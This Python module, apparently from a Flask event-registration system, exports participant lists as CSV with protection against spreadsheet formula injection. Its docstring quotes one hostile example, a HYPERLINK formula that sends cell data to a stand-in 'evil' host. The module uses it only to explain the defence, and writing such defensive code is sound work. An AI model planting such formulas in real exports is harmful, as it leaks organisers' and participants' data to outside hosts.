"""Organisers' export: the registration list as CSV that spreadsheets open safely.

A CSV cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return) is read by Excel and
LibreOffice as a formula: a participant named ``=HYPERLINK("http://evil/?"&A1, "Bấm vào đây")`` would run in the
organiser's spreadsheet. ``safe_cell`` prefixes such cells with a single quote, so they are shown as text.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import datetime

from flask_babel import gettext as _
from flask_babel import lazy_gettext as _l

from ..labels import PARTICIPANT_LABELS
from ..services import to_local
from .labels import REG_STATUS_LABELS
from .models import Registration

#: first characters that make a spreadsheet treat a cell as a formula (fullwidth forms included: some
#: spreadsheet programs normalise them to their ASCII twins)
FORMULA_LEADS = frozenset("=+-@\t\r\n" "\uff1d\uff0b\uff0d\uff20")
BOM = "\ufeff"

REGISTRATION_HEADER = (
    _l("Reference"), _l("Full name"), _l("Email"), _l("Phone"), _l("Position"), _l("Organisation"),
    _l("Participant type"), _l("Status"), _l("Waitlist position"), _l("Registered at (Vietnam time)"),
    _l("Checked in at (Vietnam time)"), _l("Gate"), _l("Consent: processing for the event"),
    _l("Consent: share contact with exhibitors"), _l("Consent: photos"),
)


def safe_cell(value: object) -> str:
    """The text of one CSV cell, made inert for spreadsheets: a leading formula character gets a ``'`` before it."""
    text = "" if value is None else str(value)
    if text and text[0] in FORMULA_LEADS:
        return "'" + text
    return text


def csv_bytes(header: Sequence[object], rows: Iterable[Sequence[object]]) -> bytes:
    """UTF-8 with a byte-order mark (Excel then reads Vietnamese correctly), CRLF line ends, every cell safe."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([safe_cell(h) for h in header])
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return (BOM + buffer.getvalue()).encode("utf-8")


def local_time(value: datetime | None) -> str:
    """Naive UTC → ``2025-10-09 08:30`` in Vietnam time (sorts correctly in a spreadsheet)."""
    local = to_local(value)
    return local.strftime("%Y-%m-%d %H:%M") if local else ""


def _yes_no(value: bool) -> str:
    return _("Yes") if value else _("No")


def registration_row(reg: Registration, waitlist_position: int | None) -> list[object]:
    """One CSV row in the order of ``REGISTRATION_HEADER`` (labels translated at request time)."""
    organisation = reg.organisation.display_name if reg.organisation is not None else ""
    return [
        reg.id, reg.full_name, reg.email, reg.phone, reg.position, organisation,
        PARTICIPANT_LABELS.get(reg.participant_type, reg.participant_type),
        REG_STATUS_LABELS.get(reg.status, reg.status), waitlist_position,
        local_time(reg.created_at), local_time(reg.checked_in_at), reg.checked_in_gate,
        _yes_no(reg.consent_processing), _yes_no(reg.consent_share_contact), _yes_no(reg.consent_photos),
    ]
